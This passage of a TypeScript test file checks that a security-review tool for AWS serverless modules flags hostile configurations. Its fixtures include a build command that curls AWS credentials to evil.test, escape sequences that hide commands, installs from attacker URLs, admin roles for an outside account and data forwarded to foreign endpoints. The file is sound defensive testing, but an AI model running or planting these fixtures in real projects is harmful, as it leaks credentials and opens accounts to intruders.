import { expect, test } from 'vitest';
import { describeModule, whatIsNew } from '../modules/describe.ts';
import { modulePackage } from '../modules/package.ts';
import { files } from '../modules/testing.ts';
import { unpainted } from '../output/paint.ts';
import { descriptionText } from './module-text.ts';

/* Modules that each hide a right, a program or an open door in another place, and what the screen says of it. */

interface Hostile {
  /** Of package.json. */
  readonly manifest?: object;
  readonly lambda?: object;
  readonly api?: object;
  readonly cloudFormation?: object;
  readonly more?: Record<string, unknown>;
}

const describe = ({ manifest, lambda, api, cloudFormation, more }: Hostile) =>
  describeModule(
    modulePackage(
      'awsm-thumbs',
      files({
        'package.json': { name: 'awsm-thumbs', version: '1.0.0', ...manifest },
        'awsm.json': { resources: { cloudFormation: cloudFormation ?? {} } },
        'awsm/make/awsm.json': {
          lambda: { iamPolicyDocumentStatements: [], cloudFormation: { Runtime: 'nodejs24.x' }, ...lambda },
          ...(api && { apiGateway: api }),
        },
        ...more,
      }),
    ),
  );
const screen = (module: Hostile) => descriptionText(describe(module), unpainted);

const attacker = '666666666666';
const sub = (text: string) => ({ 'Fn::Sub': text.replace(/<([^>]+)>/g, '$' + '{$1}') });
const allow = (Action: unknown, Resource: unknown, more: object = {}) => ({
  Effect: 'Allow',
  Action,
  Resource,
  ...more,
});
const policy = (...Statement: unknown[]) => ({ Version: '2012-10-17', Statement });
const everything = allow('*', '*');
const resource = (Type: string, Properties: object, more: object = {}): Hostile => ({
  cloudFormation: { Resources: { Backup: { Type, Properties, ...more } } },
});
const right = (...iamPolicyDocumentStatements: unknown[]): Hostile => ({ lambda: { iamPolicyDocumentStatements } });
const trust = (Principal: unknown, more: object = {}) =>
  policy({ Effect: 'Allow', Action: 'sts:AssumeRole', Principal, ...more });
const lambdaTrust = trust({ Service: 'lambda.amazonaws.com' });
/** A value that a condition chooses. */
const chosen = (...values: unknown[]) => ({ 'Fn::If': ['Chosen', ...values] });
/** An object that JavaScript cannot make a text of. */
const noText = { toString: 1 };
const table = { Type: 'AWS::DynamoDB::Table', Properties: { BillingMode: 'PAY_PER_REQUEST' } };

test('a harmless module has nothing that is wide, and no programs', () => {
  const shown = screen({
    lambda: {
      iamPolicyDocumentStatements: [
        allow('dynamodb:GetItem', { Ref: 'BackupArn' }),
        allow('sqs:SendMessage', sub('<BackupArn>/x')),
      ],
      eventSources: {
        Jobs: { Type: 'AWS::Lambda::EventSourceMapping', Properties: { EventSourceArn: { Ref: 'BackupStream' } } },
      },
    },
    cloudFormation: {
      Resources: { Backup: table },
      Outputs: {
        BackupArn: { Value: { 'Fn::GetAtt': ['Backup', 'Arn'] } },
        BackupStream: { Value: { 'Fn::GetAtt': ['Backup', 'StreamArn'] } },
      },
    },
  });
  expect(shown).toContain('awsm-thumbs/make may dynamodb:GetItem on <Backup.Arn>\n');
  expect(shown).not.toMatch(/wide|Programs|Scripts|Commands|of a type that JAWS does not know/);
});

test.each<[string, Hostile, ...string[]]>([
  // Programs on the machine of the user who installs it.
  [
    'a build program',
    { lambda: { package: { build: ['sh', '-c', 'curl evil.test --data @$HOME/.aws/credentials'] } } },
    'Programs that packaging starts on your machine, as you',
    'awsm-thumbs/make: sh -c "curl evil.test --data @$HOME/.aws/credentials"',
  ],
  [
    'a build program that cleans the screen behind it',
    { lambda: { package: { build: ['sh', '-c', 'evil\r\u001b[1A\u001b[2K\u202eharmless'] } } },
    'awsm-thumbs/make: sh -c "evil␍␛[1A␛[2K\\\\u{202e}harmless"',
  ],
  ['an install script', { manifest: { scripts: { preinstall: 'node evil.js' } } }, 'preinstall: node evil.js'],
  [
    'a package that npm compiles',
    { more: { 'binding.gyp': {} } },
    'Scripts that npm runs',
    'install: node-gyp rebuild',
  ],
  [
    'a command with the name of another',
    { manifest: { bin: { tsc: 'evil.js' } } },
    'Commands that npm',
    'tsc: evil.js',
  ],
  ['a folder of commands', { manifest: { directories: { bin: 'evil' } } }, '*: evil/*'],
  ['an optional package', { manifest: { optionalDependencies: { evil: '1' } } }, 'Packages', 'evil 1'],
  ['a package of the project', { manifest: { peerDependencies: { evil: '1' } } }, 'evil as your project has it'],
  [
    'a Python package that pip builds',
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: {
        'awsm/make/requirements.txt': 'boto3==1.40.1 ; python_version > "3"\n./evil # harmless\n',
        'awsm/uv.lock':
          '[[package]]\nname="x"\nsource={virtual="."}\ndependencies=[{name="y"}]\n[[package]]\nname="y"\nsource={ git = "https://evil.test/y#1" }',
      },
    },
    'Programs that packaging',
    'awsm-thumbs/make: pip install ./evil',
    'awsm-thumbs/make: pip install "y @ git+https://evil.test/y@1"',
  ],
  [
    'files of the project in its zip',
    { lambda: { package: { optimize: { includePaths: ['aws_modules/shop/keys', 'aws_modules/awsm-thumbs/x'] } } } },
    'awsm-thumbs/make may take aws_modules/shop/keys of the project into its zip (wide)',
  ],
  [
    'the project in its zip',
    { lambda: { package: { optimize: { builder: false } } } },
    'may take the whole project into its zip (wide)',
  ],

  // Rights of functions.
  ['an administrator', right(everything), 'awsm-thumbs/make is full administrator (wide)'],
  [
    'one in other letters',
    right({ effect: 'Allow', action: ['*:*'], RESOURCE: '*' }),
    'awsm-thumbs/make is full administrator (wide)',
  ],
  [
    'no role of its own',
    { lambda: { iamPolicyDocumentStatements: undefined } },
    'may do all that the role of all functions of the stage may (wide)',
  ],
  [
    'a role of the account',
    {
      lambda: {
        iamPolicyDocumentStatements: undefined,
        cloudFormation: { Role: sub('arn:aws:iam::<AWS::AccountId>:role/Admin') },
      },
    },
    'awsm-thumbs/make may run as the role arn:aws:iam::<AWS::AccountId>:role/Admin (wide)',
  ],
  [
    'rights for all functions',
    { cloudFormation: { LambdaIamPolicyDocumentStatements: [allow('s3:GetObject', 'arn:aws:s3:::taxes/*')] } },
    'all functions of the stage may s3:GetObject on arn:aws:s3:::taxes/* (wide)',
  ],
  [
    'rights for the API',
    { cloudFormation: { ApiGatewayIamPolicyDocumentStatements: [allow('dynamodb:*', '*')] } },
    'the API may dynamodb:* on * (wide)',
  ],
  [
    'a right to give rights',
    {
      ...right(allow('iam:PutRolePolicy', { Ref: 'Backup' })),
      ...resource('AWS::IAM::Role', { AssumeRolePolicyDocument: lambdaTrust }),
    },
    'may iam:PutRolePolicy on <Backup> (wide)',
  ],
  [
    'a star by way of an output',
    {
      ...right(allow('s3:GetObject', { Ref: 'BackupArn' })),
      cloudFormation: { Outputs: { BackupArn: { Value: '*' } } },
    },
    'may s3:GetObject on * (wide)',
  ],
  [
    'a star by way of a parameter',
    {
      ...right(allow('s3:GetObject', { Ref: 'BackupArn' })),
      cloudFormation: {
        Resources: { Star: { Type: 'AWS::SSM::Parameter', Properties: { Type: 'String', Value: '*' } } },
        Outputs: { BackupArn: { Value: { 'Fn::GetAtt': ['Star', 'Value'] } } },
      },
    },
    'may s3:GetObject on <Star.Value> (wide)',
  ],
  [
    'a star that a condition chooses',
    right(allow('s3:GetObject', { 'Fn::If': ['Never', 'arn:aws:s3:::x', '*'] })),
    'may s3:GetObject on arn:aws:s3:::x, * (wide)',
  ],
  [
    "a name that is part of another's",
    {
      ...right(allow('dynamodb:GetItem', sub('arn:aws:dynamodb:<AWS::Region>:<AWS::AccountId>:table/users'))),
      ...resource('AWS::SNS::Topic', { DisplayName: 'ers' }),
    },
    'table/users (wide)',
  ],
  [
    'a table of that name which is never made',
    {
      ...right(allow('dynamodb:GetItem', sub('arn:aws:dynamodb:<AWS::Region>:<AWS::AccountId>:table/users'))),
      cloudFormation: { Resources: { Fake: { ...table, Condition: 'Never', Properties: { TableName: 'users' } } } },
    },
    'table/users (wide)',
  ],
  [
    "a resource of its own behind another's",
    {
      ...right(allow('s3:GetObject', sub('arn:aws:s3:::taxes/<Backup>'))),
      cloudFormation: { Resources: { Backup: table } },
    },
    'arn:aws:s3:::taxes/<Backup> (wide)',
  ],
  [
    'functions of a module whose name begins like its own',
    right(
      allow(
        'lambda:InvokeFunction',
        sub('arn:aws:lambda:<AWS::Region>:<AWS::AccountId>:function:<aaStage>-<aaProjectName>-lAwsmThumbsAdminSend'),
      ),
    ),
    'lAwsmThumbsAdminSend (wide)',
  ],
  [
    'APIs of the account, whose ARNs have no account',
    right(allow('apigateway:PATCH', 'arn:aws:apigateway:us-east-1::/restapis/x')),
    '/restapis/x (wide)',
  ],
  [
    'a condition that everything meets',
    right(allow('sns:Publish', '*', { Condition: { ArnLike: { 'sns:TopicArn': 'arn:aws:sns:*:*:*' } } })),
    'may sns:Publish on * if sns:TopicArn is like arn:aws:sns:*:*:* (wide)',
  ],
  [
    'events of others',
    {
      lambda: {
        eventSources: {
          Jobs: {
            Type: 'AWS::Lambda::EventSourceMapping',
            Properties: { EventSourceArn: 'arn:aws:sqs:us-east-1:1:orders' },
          },
        },
      },
    },
    'may read all that comes from arn:aws:sqs:us-east-1:1:orders (wide)',
    'called by AWS::Lambda::EventSourceMapping of arn:aws:sqs:us-east-1:1:orders',
  ],
  [
    'a layer of another account',
    { lambda: { cloudFormation: { Layers: [`arn:aws:lambda:us-east-1:${attacker}:layer:evil:1`] } } },
    `awsm-thumbs/make may run the layer arn:aws:lambda:us-east-1:${attacker}:layer:evil:1 (wide)`,
  ],
  [
    'a secret of the account in a variable',
    { lambda: { cloudFormation: { Environment: { Variables: { DB: '{{resolve:secretsmanager:prod/db}}' } } } } },
    'awsm-thumbs/make may have the value of secretsmanager:prod/db (wide)',
  ],

  // Rights that are resources.
  [
    'a role for another account',
    resource('AWS::IAM::Role', {
      AssumeRolePolicyDocument: trust({ AWS: `arn:aws:iam::${attacker}:root` }),
      ManagedPolicyArns: [sub('arn:<AWS::Partition>:iam::aws:policy/AdministratorAccess')],
    }),
    'the role Backup is full administrator, by arn:<AWS::Partition>:iam::aws:policy/AdministratorAccess (wide)',
    `the account ${attacker} may take the role Backup, which is full administrator (wide)`,
  ],
  [
    'a role that a policy elsewhere makes an administrator',
    {
      cloudFormation: {
        Resources: {
          Backup: { Type: 'AWS::IAM::Role', Properties: { AssumeRolePolicyDocument: trust('*') } },
          Extra: {
            Type: 'AWS::IAM::Policy',
            Properties: { Roles: [{ Ref: 'Backup' }], PolicyDocument: policy(everything) },
          },
        },
      },
    },
    'everyone may take the role Backup, which is full administrator (wide)',
  ],
  [
    'a role for anyone whom a provider signs in',
    resource('AWS::IAM::Role', {
      AssumeRolePolicyDocument: trust(
        { Federated: sub('arn:aws:iam::<AWS::AccountId>:oidc-provider/token.actions.githubusercontent.com') },
        {
          Action: 'sts:AssumeRoleWithWebIdentity',
          Condition: { StringLike: { 'token.actions.githubusercontent.com:sub': 'repo:evil/*' } },
        },
      ),
    }),
    'signs in may take the role Backup if token.actions.githubusercontent.com:sub is like repo:evil/* (wide)',
  ],
  [
    'a role for an account that CloudFormation computes',
    resource('AWS::IAM::Role', { AssumeRolePolicyDocument: trust({ AWS: { 'Fn::Select': [0, ['666666', 'x']] } }) }),
    'may take the role Backup (wide)',
  ],
  [
    'a policy of AWS that calls every function',
    resource('AWS::IAM::Role', {
      AssumeRolePolicyDocument: lambdaTrust,
      ManagedPolicyArns: ['arn:aws:iam::aws:policy/service-role/AWSLambdaRole'],
    }),
    'the role Backup may all that arn:aws:iam::aws:policy/service-role/AWSLambdaRole grants (wide)',
  ],
  [
    'a policy for the role of all functions',
    resource('AWS::IAM::ManagedPolicy', { Roles: [{ Ref: 'IamRoleLambda' }], PolicyDocument: policy(everything) }),
    '<IamRoleLambda> is full administrator (wide)',
  ],
  [
    'a policy written as a text',
    resource('AWS::IAM::Policy', { Roles: ['x'], PolicyDocument: sub(JSON.stringify(policy(everything))) }),
    'x is full administrator (wide)',
  ],
  [
    'a policy that is a default',
    {
      cloudFormation: {
        Parameters: { P: { Type: 'String', Default: JSON.stringify(policy(everything)) } },
        Resources: { Backup: { Type: 'AWS::IAM::Policy', Properties: { Users: ['x'], PolicyDocument: { Ref: 'P' } } } },
      },
    },
    'x is full administrator (wide)',
  ],
  [
    'a policy that is glued together',
    resource('AWS::IAM::Policy', {
      Users: ['x'],
      PolicyDocument: { 'Fn::Join': ['', ['{"Statement":[{"Effect":"Allow","Action":"*",', '"Resource":"*"}]}']] },
    }),
    'x is full administrator (wide)',
  ],
  [
    'a policy that nobody can read',
    resource('AWS::IAM::Policy', { Users: ['x'], PolicyDocument: { 'Fn::ImportValue': 'evil' } }),
    'x may do what a policy says that cannot be read here (wide)',
  ],
  [
    'a statement on a condition',
    resource('AWS::IAM::Policy', {
      Users: ['x'],
      PolicyDocument: policy({ 'Fn::If': ['Always', everything, { Ref: 'AWS::NoValue' }] }),
    }),
    'x is full administrator (wide)',
  ],
  [
    'a key',
    resource('AWS::IAM::AccessKey', { UserName: 'deployer' }),
    'a key of deployer may be used on every machine (wide)',
  ],
  [
    'a password',
    resource('AWS::IAM::User', { LoginProfile: { Password: 'evil' }, Groups: ['Administrators'] }),
    'anyone who knows its password may sign in as the user Backup (wide)',
    'Backup may do all that the group Administrators may (wide)',
  ],
  [
    'a member of a group',
    resource('AWS::IAM::UserToGroupAddition', { Users: ['evil'], GroupName: 'Administrators' }),
    'evil may do all that the group Administrators may (wide)',
  ],
  [
    'a bucket for everyone',
    resource('AWS::S3::BucketPolicy', {
      Bucket: 'x',
      PolicyDocument: policy({ ...allow('s3:GetObject', 'arn:aws:s3:::x/*'), Principal: '*' }),
    }),
    'everyone may s3:GetObject on arn:aws:s3:::x/* (wide)',
  ],
  [
    'a bucket with an access list',
    resource('AWS::S3::Bucket', { AccessControl: 'AuthenticatedRead' }),
    'everyone may read Backup (wide)',
  ],
  [
    'a bucket that copies all to another',
    resource('AWS::S3::Bucket', {
      ReplicationConfiguration: { Role: 'x', Rules: [{ Destination: { Bucket: 'arn:aws:s3:::evil' } }] },
    }),
    'Backup may copy everything to arn:aws:s3:::evil (wide)',
  ],
  [
    'a queue for everyone of whom a condition asks nothing',
    resource('AWS::SQS::QueuePolicy', {
      PolicyDocument: policy({
        ...allow('sqs:ReceiveMessage', '*'),
        Principal: { AWS: '*' },
        Condition: { ArnLike: { 'aws:SourceArn': 'arn:aws:*:*:*:*' } },
      }),
    }),
    'everyone may sqs:ReceiveMessage on * if aws:SourceArn is like arn:aws:*:*:*:* (wide)',
  ],
  [
    'a topic for an account',
    resource('AWS::SNS::TopicPolicy', {
      PolicyDocument: policy({ ...allow('sns:Subscribe', '*'), Principal: { AWS: attacker } }),
    }),
    `the account ${attacker} may sns:Subscribe on * (wide)`,
  ],
  [
    'a topic that sends all away',
    resource('AWS::SNS::Subscription', { Protocol: 'https', Endpoint: 'https://evil.test', TopicArn: 'x' }),
    'Backup may send everything to https://evil.test (wide)',
  ],
  [
    'a key of KMS for an account',
    resource('AWS::KMS::Key', {
      KeyPolicy: policy({ ...allow('kms:Decrypt', '*'), Principal: { AWS: `arn:aws:iam::${attacker}:role/x` } }),
    }),
    `arn:aws:iam::${attacker}:role/x may kms:Decrypt on * (wide)`,
  ],
  [
    'a table for an account',
    resource('AWS::DynamoDB::Table', {
      ResourcePolicy: { PolicyDocument: policy({ ...allow('dynamodb:Scan', '*'), Principal: { AWS: attacker } }) },
    }),
    `the account ${attacker} may dynamodb:Scan on * (wide)`,
  ],
  [
    'an event bus for everyone',
    resource('AWS::Events::EventBusPolicy', { Action: 'events:PutEvents', Principal: '*', StatementId: 'x' }),
    'everyone may events:PutEvents on Backup (wide)',
  ],
  [
    'a function that everyone may call',
    resource('AWS::Lambda::Permission', { Action: 'lambda:InvokeFunction', FunctionName: 'f', Principal: '*' }),
    'everyone may lambda:InvokeFunction on f (wide)',
  ],
  [
    'a function that an account may change',
    resource('AWS::Lambda::Permission', {
      Action: 'lambda:UpdateFunctionCode',
      FunctionName: 'f',
      Principal: attacker,
    }),
    `the account ${attacker} may lambda:UpdateFunctionCode on f (wide)`,
  ],
  [
    'a function whose code is elsewhere',
    resource('AWS::Lambda::Function', { Code: { S3Bucket: 'evil' }, Role: { Ref: 'IamRoleLambda' } }),
    'Backup may run code of evil (wide)',
    'Backup may run as the role <IamRoleLambda> (wide)',
  ],
  [
    'a state machine with a role of the account',
    resource('AWS::StepFunctions::StateMachine', { RoleArn: sub('arn:aws:iam::<AWS::AccountId>:role/Admin') }),
    'Backup may run as the role arn:aws:iam::<AWS::AccountId>:role/Admin (wide)',
  ],
  [
    'a stack from elsewhere',
    resource('AWS::CloudFormation::Stack', { TemplateURL: 'https://evil.s3.amazonaws.com/x.json' }),
    'Backup may run AWS::CloudFormation::Stack, https://evil.s3.amazonaws.com/x.json (wide)',
  ],
  [
    'a custom resource of another account',
    resource('Custom::Thing', { ServiceToken: `arn:aws:lambda:us-east-1:${attacker}:function:x` }),
    `Backup may run Custom::Thing, arn:aws:lambda:us-east-1:${attacker}:function:x (wide)`,
  ],
  [
    'a transform beside the properties',
    resource(
      'AWS::SNS::Topic',
      {},
      { 'Fn::Transform': { Name: 'AWS::Include', Parameters: { Location: 's3://evil' } } },
    ),
    'Backup may run Fn::Transform (wide)',
  ],
  [
    'guests of an identity pool',
    resource('AWS::Cognito::IdentityPool', { AllowUnauthenticatedIdentities: true }),
    'everyone may be a guest of Backup (wide)',
  ],
  [
    'a type that nobody here knows',
    resource('AWS::RolesAnywhere::TrustAnchor', {}),
    'of a type that JAWS does not know',
  ],
  ['a type of a known service', resource('AWS::SSM::Association', {}), 'of a type that JAWS does not know'],

  // Values that are lists, conditions or known to CloudFormation alone.
  [
    'a source of events that a condition chooses',
    {
      lambda: {
        eventSources: {
          Jobs: {
            Type: 'AWS::Lambda::EventSourceMapping',
            Properties: {
              EventSourceArn: {
                'Fn::If': [
                  'Own',
                  sub('arn:aws:sqs:us-east-1:<AWS::AccountId>:<Backup>:x'),
                  'arn:aws:sqs:us-east-1:1:orders',
                ],
              },
            },
          },
        },
      },
      cloudFormation: { Resources: { Backup: { Type: 'AWS::SQS::Queue', Properties: {} } } },
    },
    'may read all that comes from arn:aws:sqs:us-east-1:1:orders (wide)',
  ],
  [
    'a way to sign in that a condition turns off',
    resource('AWS::ApiGatewayV2::Route', {
      ApiId: 'x',
      RouteKey: 'GET /',
      AuthorizationType: chosen('AWS_IAM', 'NONE'),
    }),
    'everyone may call Backup (wide)',
  ],
  [
    'a way to sign in that a condition takes away',
    resource('AWS::ApiGateway::Method', { AuthorizationType: chosen('AWS_IAM', { Ref: 'AWS::NoValue' }) }),
    'everyone may call Backup (wide)',
  ],
  [
    'code that a condition chooses',
    resource('AWS::Lambda::Function', { Code: chosen({ ZipFile: 'x' }, { S3Bucket: 'evil' }) }),
    'Backup may run code of evil (wide)',
  ],
  [
    'an access list that a condition chooses',
    resource('AWS::S3::Bucket', { AccessControl: chosen('Private', 'PublicRead') }),
    'everyone may read Backup (wide)',
  ],
  [
    'rules of a bucket that copy all away on a condition',
    resource('AWS::S3::Bucket', {
      ReplicationConfiguration: chosen(
        { Rules: [] },
        { Rules: [{ Destination: chosen({ Bucket: 'arn:aws:s3:::evil' }) }] },
      ),
    }),
    'Backup may copy everything to arn:aws:s3:::evil (wide)',
  ],
  [
    'a topic that sends all away on a condition',
    resource('AWS::SNS::Subscription', { Endpoint: chosen('arn:aws:sqs:us-east-1:1:x', 'https://evil.test') }),
    'Backup may send everything to https://evil.test (wide)',
  ],
  [
    'guests on a condition',
    resource('AWS::Cognito::IdentityPool', { AllowUnauthenticatedIdentities: chosen(false, true) }),
    'everyone may be a guest of Backup (wide)',
  ],
  ...[
    { 'Fn::ImportValue': 'x' },
    { 'Fn::Select': [0, { 'Fn::Split': [',', 'x'] }] },
    { 'Fn::FindInMap': [{ Ref: 'x' }, 'y', 'z'] },
  ].flatMap((value): [string, Hostile, string][] => {
    const words = JSON.stringify(value);
    return [
      [
        `a role by ${words}`,
        resource('AWS::StepFunctions::StateMachine', { RoleArn: value }),
        `Backup may run as the role ${words} (wide)`,
      ],
      [
        `a layer by ${words}`,
        { lambda: { cloudFormation: { Layers: [value] } } },
        `awsm-thumbs/make may run the layer ${words} (wide)`,
      ],
      [
        `an address by ${words}`,
        resource('AWS::ApiGatewayV2::Integration', { IntegrationUri: value }),
        `Backup may send what it gets to ${words} (wide)`,
      ],
    ];
  }),
  [
    'a value of a map that is not there',
    right(allow('s3:GetObject', { 'Fn::FindInMap': ['Nowhere', 'a', 'b'] })),
    '{"Fn::FindInMap":["Nowhere","a","b"]} (wide)',
  ],
  [
    'a condition whose value another condition opens',
    resource('AWS::SQS::QueuePolicy', {
      PolicyDocument: policy({
        ...allow('sqs:SendMessage', '*'),
        Principal: '*',
        Condition: { StringLike: { 'aws:SourceAccount': chosen({ Ref: 'AWS::AccountId' }, '*') } },
      }),
    }),
    'everyone may sqs:SendMessage on * if aws:SourceAccount is like <AWS::AccountId> or * (wide)',
  ],
  [
    "a function's statement on a condition",
    right({ 'Fn::If': ['Always', everything, { Ref: 'AWS::NoValue' }] }),
    'awsm-thumbs/make is full administrator (wide)',
  ],

  // Names that are not the module's.
  [
    'a name by way of an alarm',
    {
      ...right(allow('s3:GetObject', { Ref: 'Backup' })),
      ...resource('AWS::CloudWatch::Alarm', { AlarmName: 'arn:aws:s3:::taxes' }),
    },
    'may s3:GetObject on <Backup> (wide)',
  ],
  [
    'a name that a resource of another service has',
    {
      ...right(allow('dynamodb:GetItem', sub('arn:aws:dynamodb:<AWS::Region>:<AWS::AccountId>:table/<Backup>'))),
      ...resource('AWS::SSM::Parameter', { Name: 'users' }),
    },
    'table/<Backup> (wide)',
  ],
  [
    'a name that a resource only refers to',
    {
      ...right(allow('lambda:InvokeFunction', 'arn:aws:lambda:us-east-1:<AWS::AccountId>:function:orders')),
      ...resource('AWS::Lambda::EventInvokeConfig', { FunctionName: 'orders' }),
    },
    'function:orders (wide)',
  ],
  [
    'a name of another kind in the same service',
    {
      ...right(allow('lambda:InvokeFunction', 'arn:aws:lambda:us-east-1:<AWS::AccountId>:function:orders')),
      ...resource('AWS::Lambda::Alias', { Name: 'orders' }),
    },
    'function:orders (wide)',
  ],

  // Packages that pip builds.
  ...['.', '..', 'evil-1.0.tar.gz', 'evil.zip', 'evil.whl', '-e .'].map((line): [string, Hostile, string] => [
    `a requirement ${line}`,
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: { 'awsm/make/requirements.txt': `boto3==1.40.1\n${line}\n` },
    },
    `awsm-thumbs/make: pip install ${line.includes(' ') ? JSON.stringify(line) : line}`,
  ]),
  ...['\r', '\u2028', '\u0085', '\f'].map((end): [string, Hostile, string] => [
    `a requirement behind ${JSON.stringify(end)}`,
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: { 'awsm/make/requirements.txt': `boto3 # x${end}./evil` },
    },
    'awsm-thumbs/make: pip install ./evil',
  ]),
  ...['# x \\\n./evil', './ev\\\nil'].map((text): [string, Hostile, string] => [
    `a requirement in ${JSON.stringify(text)}`,
    { lambda: { cloudFormation: { Runtime: 'python3.13' } }, more: { 'awsm/make/requirements.txt': text } },
    'awsm-thumbs/make: pip install ./evil',
  ]),
  [
    'requirements in another encoding',
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: { 'awsm/make/requirements.txt': '# coding: utf-7\nboto3 # +AAo-./evil' },
    },
    'pip install "# coding: utf-7"',
  ],
  [
    'a lock file in single quotes',
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: {
        'awsm/uv.lock':
          "[[package]]\nname='x'\nsource={virtual='.'}\ndependencies=[{name='evil'}]\n[[package]]\nname='evil'\nsource={ git = 'https://evil.test/x#1' }",
      },
    },
    'awsm-thumbs/make: pip install "evil @ git+https://evil.test/x@1"',
  ],
  [
    'a project with escapes',
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: { 'awsm/pyproject.toml': '[project]\ndependencies = ["evil \\u0040 https://evil.test/x.zip"]' },
    },
    'awsm-thumbs/make: pip install "evil @ https://evil.test/x.zip"',
  ],
  [
    'a lock file that nobody can read',
    { lambda: { cloudFormation: { Runtime: 'python3.13' } }, more: { 'awsm/uv.lock': 'evil' } },
    'awsm-thumbs/make: pip install ',
  ],

  // What breaks a reader.
  [
    'a policy that is nested deep',
    resource('AWS::IAM::Policy', {
      Users: ['x'],
      PolicyDocument: `{"Statement":[{"Effect":"Allow","Action":"*","Resource":${'['.repeat(20_000)}"*"${']'.repeat(20_000)}}]}`,
    }),
    'x may do what a policy says that cannot be read here (wide)',
  ],
  [
    'references that are no names',
    {
      ...right(
        allow(
          [{ Ref: noText }, { 'Fn::Sub': [noText] }],
          [{ 'Fn::GetAtt': [noText] }, { 'Fn::FindInMap': [noText] }, { 'Fn::Join': [noText, ['x']] }],
        ),
      ),
      api: { cloudFormation: { Path: noText, Method: noText, AuthorizationType: noText } },
      cloudFormation: {
        Parameters: { P: { Type: noText, Default: 'x' } },
        Resources: {
          Files: { Type: 'AWS::S3::Bucket', Properties: { AccessControl: noText, BucketName: { Ref: 'P' } } },
          Odd: { Type: 'AWS::DynamoDB::Table', DeletionPolicy: noText, Properties: {} },
        },
      },
    },
    'awsm-thumbs/make may',
  ],

  // Open doors.
  [
    'an endpoint without authorization',
    { api: { cloudFormation: { Path: 'x' } } },
    'GET /x  open to everyone, and nothing says why',
  ],
  [
    'an endpoint whose authorization a condition chooses',
    { api: { cloudFormation: { Path: 'x', AuthorizationType: chosen('AWS_IAM', 'NONE') } } },
    'GET /x  open to everyone, and nothing says why',
  ],
  [
    'an endpoint with a role of the account',
    {
      api: { cloudFormation: { Path: 'x', Type: 'AWS', Uri: 'x', Credentials: `arn:aws:iam::${attacker}:role/Admin` } },
    },
    `awsm-thumbs/make may run as the role arn:aws:iam::${attacker}:role/Admin (wide)`,
  ],
  [
    'an endpoint that sends all away',
    { api: { cloudFormation: { Path: 'x', Type: 'HTTP_PROXY', Uri: 'https://evil.test' } } },
    'awsm-thumbs/make may send what it gets to https://evil.test (wide)',
  ],
  [
    'an authorizer of others',
    {
      api: { Authorizers: { a: { Type: 'JWT', JwtConfiguration: { Issuer: 'https://evil.test', Audience: ['x'] } } } },
    },
    'anyone whom https://evil.test signs in may call the endpoints of the authorizer a (wide)',
  ],
  [
    'an address of the function',
    { lambda: { eventSources: { Web: { Type: 'AWS::Lambda::Url', Properties: { AuthType: 'NONE' } } } } },
    'everyone may call the address Web of awsm-thumbs/make (wide)',
  ],
  [
    'a WebSocket that lets everyone in',
    { lambda: { eventSources: { In: { Type: 'AWS::ApiGatewayV2::Route', Properties: { RouteKey: '$connect' } } } } },
    'everyone may call In of awsm-thumbs/make (wide)',
  ],
  [
    'an API of its own',
    resource('AWS::ApiGatewayV2::Api', { ProtocolType: 'HTTP', Target: 'arn:x' }),
    'everyone may call Backup (wide)',
  ],

  // Money and secrets.
  [
    'functions that wait',
    { lambda: { warm: { provisioned: 100 } } },
    'awsm-thumbs/make started before it is called (AWS::Lambda::Alias), a month: $',
  ],
  [
    'a resource without a price',
    resource('AWS::RDS::DBCluster', {}),
    'Backup (AWS::RDS::DBCluster): no price is known here',
  ],
  [
    'a secret that it wants',
    { lambda: { envVars: ['STRIPE_KEY'], secretEnvVars: ['STRIPE_KEY'] } },
    'STRIPE_KEY  secret',
  ],
])('%s is on the screen', (_title, module, ...lines) => {
  const shown = screen(module);
  for (const line of lines) expect(shown).toContain(line);
  for (const control of ['\u001b', '\r', '\u202e']) expect(shown).not.toContain(control);
});

test.each<[string, Hostile]>([
  [
    'an address whose AuthType is left out',
    { lambda: { eventSources: { Web: { Type: 'AWS::Lambda::Url', Properties: {} } } } },
  ],
  [
    'values that a condition takes away',
    {
      ...right({
        'Fn::If': [
          'Own',
          allow('sqs:SendMessage', [chosen({ 'Fn::GetAtt': ['Backup', 'Arn'] }, { Ref: 'AWS::NoValue' })]),
          { Ref: 'AWS::NoValue' },
        ],
      }),
      ...resource('AWS::SQS::Queue', {}),
    },
  ],
  [
    'a variable with the name of a property',
    {
      lambda: {
        cloudFormation: { Environment: { Variables: { DefaultRole: 'admin', Policy: { Ref: 'AWS::Region' } } } },
      },
    },
  ],
  [
    'a queue of which its own account may do all',
    resource('AWS::SQS::QueuePolicy', {
      PolicyDocument: policy({ ...everything, Principal: { AWS: sub('arn:aws:iam::<AWS::AccountId>:root') } }),
    }),
  ],
  [
    'resources by their own names',
    {
      ...right(
        allow('states:StartExecution', sub('arn:aws:states:us-east-1:<AWS::AccountId>:stateMachine:steps')),
        allow('sqs:SendMessage', sub('arn:aws:sqs:us-east-1:<AWS::AccountId>:jobs')),
        allow('dynamodb:Query', sub('arn:aws:dynamodb:us-east-1:<AWS::AccountId>:table/<Users>/index/*')),
        allow('ssm:GetParameter', sub('arn:aws:ssm:us-east-1:<AWS::AccountId>:parameter/thumbs/size')),
        allow('s3:GetObject', sub('arn:aws:s3:::<Files>/*')),
      ),
      cloudFormation: {
        Resources: {
          Steps: { Type: 'AWS::StepFunctions::StateMachine', Properties: { StateMachineName: 'steps' } },
          Jobs: { Type: 'AWS::SQS::Queue', Properties: { QueueName: 'jobs' } },
          Users: table,
          Size: { Type: 'AWS::SSM::Parameter', Properties: { Name: '/thumbs/size', Type: 'String', Value: 'x' } },
          Files: { Type: 'AWS::S3::Bucket', Properties: {} },
        },
      },
    },
  ],
  [
    'requirements that are wheels of an index',
    {
      lambda: { cloudFormation: { Runtime: 'python3.13' } },
      more: {
        'awsm/make/requirements.txt':
          'zope.interface==6.0 --hash=sha256:1\nboto3[crt] >= 1 ; python_version > "3" # x\n',
        'awsm/uv.lock':
          '[[package]]\nname="x"\nsource={virtual="."}\ndependencies=[{name="boto3"}]\n[[package]]\nname="boto3"\nversion="1"\nsource={registry="https://pypi.org/simple"}',
        'awsm/pyproject.toml': '[project]\ndependencies = ["boto3"]',
      },
    },
  ],
])('%s is harmless', (_title, module) => {
